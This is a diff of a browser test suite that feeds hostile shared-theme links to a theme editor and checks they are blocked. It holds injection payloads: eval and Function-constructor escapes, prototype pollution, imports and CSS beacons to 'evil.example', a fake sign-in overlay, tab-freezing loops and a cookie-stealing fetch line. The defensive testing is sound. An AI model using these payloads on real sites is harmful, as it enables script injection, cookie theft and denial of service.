@@ -9,7 +9,12 @@ const EVIL = 'https://evil.example';
 
 type Options = Readonly<Record<string, unknown>>;
 
-const stored = (options: Options) => JSON.stringify({ version: 1, options });
+const stored = ({ code, ...options }: Options) =>
+  JSON.stringify(
+    code === undefined
+      ? { version: 1, options }
+      : { version: 2, files: [{ name: 'theme.ts', code }], options },
+  );
 const linkOf = (options: Options) =>
   `/x/theme/#theme1=${deflateRawSync(stored(options)).toString('base64url')}`;
 const stylesOf = (root: unknown, component = 'MuiPaper'): Options => ({
@@ -18,12 +23,13 @@ const stylesOf = (root: unknown, component = 'MuiPaper'): Options => ({
 const propsOf = (component: string, defaultProps: unknown): Options => ({
   components: { [component]: { defaultProps } },
 });
-const fn = (...body: unknown[]) => ({ $fn: [['theme'], body] });
+/** A theme in code. */
+const codeOf = (code: string): Options => ({ code });
+const rootOf = (root: string) =>
+  codeOf(
+    `export const theme = { components: { MuiButton: { styleOverrides: { root: ${root} } }, MuiPaper: { styleOverrides: { root: ${root} } } } };`,
+  );
 
-/** The getter of `__proto__`, which leads to `Function` by constructors of prototypes. */
-const getter = ['call', '__lookupGetter__', '__proto__'];
-const prototype = ['call', ['get', ['object', ['property', 'alpha', getter]], 'alpha']];
-const constructorOf = (owner: unknown) => ['get', owner, 'constructor'];
 const ran = `window.ran = true; location = '${EVIL}'; alert(1)`;
 
 const SIGN_IN = {
@@ -37,18 +43,33 @@ const SIGN_IN = {
 /** Themes by what they try. Each is opened from a link, without a click. */
 const HOSTILE: Readonly<Record<string, readonly Options[]>> = {
   'runs code': [
-    stylesOf(fn(...getter), 'MuiButton'),
-    stylesOf(
-      fn('call', ['get', constructorOf(constructorOf(prototype)), 'alpha'], ran),
-      'MuiButton',
+    codeOf(`try { (0, eval)("${ran}"); } catch {} export const theme = { spacing: 8 };`),
+    codeOf(
+      `const all = [Function, (async () => {}).constructor, ({}).constructor.constructor]; all.forEach((make) => { try { make("${ran}")(); } catch {} }); export const theme = { spacing: 8 };`,
     ),
-    stylesOf(fn('call', 'constructor', ran), 'MuiButton'),
-    stylesOf(fn('call', ['get', ['get', ['name', 'theme'], 'constructor'], 'create'], ran)),
-    {
-      ...propsOf('MuiButton', { onClick: fn('call', 'eval', ran), ref: getter }),
-      spacing: fn(...getter),
-    },
+    rootOf(
+      `function root() { try { this.constructor.constructor("${ran}")(); } catch {} return {}; }`,
+    ),
+    rootOf(
+      `({ theme, ownerState }) => { for (const owner of [theme, ownerState, theme.spacing]) { try { owner.constructor.constructor("${ran}")(); } catch {} } return { color: theme.palette.text.primary, '--a': () => 1 }; }`,
+    ),
+    codeOf(
+      'Object.prototype.a = 1; Array.prototype.a = 1; export const theme = { spacing: 8, __proto__: { a: 1 } };',
+    ),
+    codeOf(`import('${EVIL}/a.js'); import '${EVIL}/b.js'; export const theme = { spacing: 8 };`),
     JSON.parse(`{"__proto__":{"a":1},"constructor":{"prototype":{"a":1}}}`) as Options,
+  ],
+  'returns hostile styles': [
+    rootOf(
+      `() => ({ '&::after': ${JSON.stringify(SIGN_IN)}, 'body:has(&)': { opacity: 0 }, position: 'fixed' })`,
+    ),
+    rootOf(
+      `() => ({ ['back' + 'ground']: 'u' + 'rl(${EVIL})', ['background:u' + 'rl(${EVIL}/?']: 'x)' })`,
+    ),
+    rootOf(`() => 'position: fixed; inset: 0; background: url(${EVIL})'`),
+    rootOf(
+      `() => ({ filter: 'blur(100000px) '.repeat(20), styles: 'x', name: 'y', toString: () => 'z' })`,
+    ),
   ],
   'changes elements': [
     {
@@ -197,6 +218,9 @@ const HOSTILE: Readonly<Record<string, readonly Options[]>> = {
     },
   ],
   'freezes the tab': [
+    rootOf('() => { for (;;) {} }'),
+    rootOf('() => [].indexOf.call({ length: 2 ** 53 - 1 }, 1)'),
+    rootOf("() => { let text = 'x'; for (;;) { text += text; } }"),
     propsOf('MuiSlider', { marks: true, step: 1e-5 }),
     propsOf('MuiSlider', { marks: true, max: 1e7 }),
     propsOf('MuiDateCalendar', { fixedWeekNumber: 1e7 }),
@@ -315,11 +339,28 @@ for (const [kind, themes] of Object.entries(HOSTILE)) {
   });
 }
 
+test.describe('a link with code that does not end', () => {
+  for (const [what, code] of Object.entries({
+    'a loop': 'for (;;) {}',
+    'many objects': 'const all = []; for (;;) { all.push({}); }',
+    'deep recursion': 'const deep = () => deep() + 1; deep();',
+    'an array without an end': '[].includes.call({ length: 2 ** 53 - 1 }, 1);',
+  })) {
+    test(`${what} is stopped, and says so`, async ({ page }) => {
+      await page.goto(linkOf(codeOf(`${code}\nexport const theme = {};`)));
+      await expect(page.getByText(/The theme of this link could not be opened\./)).toBeVisible();
+      // The page still responds.
+      await page.getByRole('button', { name: 'Clay' }).click();
+      await expect(page.getByRole('button', { name: 'Clay' })).toHaveAttribute(
+        'aria-pressed',
+        'true',
+      );
+    });
+  }
+});
+
 test('the notice names what it leaves out', async ({ page }) => {
-  await page.goto(linkOf({ ...propsOf('MuiButton', { href: EVIL }), ...stylesOf(fn('object')) }));
   const notice = page.getByRole('region', { name: 'This link carries a theme' });
-  await expect(notice).toContainText('Links carry no style functions, so these are left out: 1.');
-  await page.goto('about:blank');
   await page.goto(linkOf(propsOf('MuiButton', { href: EVIL, size: 'small' })));
   await notice.getByText('Show what is left out').click();
   await expect(notice).toContainText('components.MuiButton.defaultProps.href');
@@ -331,13 +372,7 @@ test('a stored theme cannot do more than one of a link', async ({ page, problems
   for (const [path, options] of [
     ['/x/react-date-pickers/digital-clock/', propsOf('MuiDigitalClock', { timeStep: 0 })],
     ['/x/react-date-pickers/date-calendar/', propsOf('MuiDateCalendar', { fixedWeekNumber: 1e7 })],
-    [
-      BARS,
-      stylesOf(
-        fn('call', ['get', constructorOf(constructorOf(prototype)), 'alpha'], ran),
-        'MuiChartsSurface',
-      ),
-    ],
+    [BARS, { ...(HOSTILE['runs code']?.[2] ?? {}) }],
     ['/x/', stylesOf({ '&::after': SIGN_IN, 'body:has(&)': { opacity: 0 } })],
   ] as const) {
     await page.goto('/x/introduction/');
@@ -359,24 +394,22 @@ test('a stored theme cannot do more than one of a link', async ({ page, problems
   problems.length = 0;
 });
 
-test('an export contains no code of a stored theme', async ({ page }) => {
+test('an export of stored data contains no code', async ({ page }) => {
   const code = `fetch('${EVIL}?' + document.cookie)`;
-  const options = stylesOf(
-    { $fn: [[`a) => 0, [${code}]: (b`], ['call', `${code}, x`]] },
-    'MuiButton',
-  );
+  const options = stylesOf({ color: `'+${code}+'`, [`a: ${code}, b`]: 1 }, 'MuiButton');
   await page.addInitScript(([key, text]) => localStorage.setItem(key, text), [
     KEY,
     stored({ ...options, shape: { borderRadius: 3 } }),
   ] as const);
   await page.goto('/x/theme/');
   await expect(
-    page.getByText(/Parts of your theme that can do more .* left out: 1\./),
+    page.getByText(/Parts of your theme that do not apply .* left out: [12]\./),
   ).toBeVisible();
   await page.getByRole('button', { name: 'Export' }).click();
   const dialog = page.getByRole('dialog', { name: 'Export the theme' });
   await expect(dialog).toContainText('borderRadius: 3');
-  await expect(dialog).not.toContainText('fetch');
+  // At most as a text in quotes.
+  await expect(dialog).not.toContainText(/(?<!\\'\+)fetch\(/);
 });
 
 test('a theme that froze a page is off after a reload, until the reader tries again', async ({
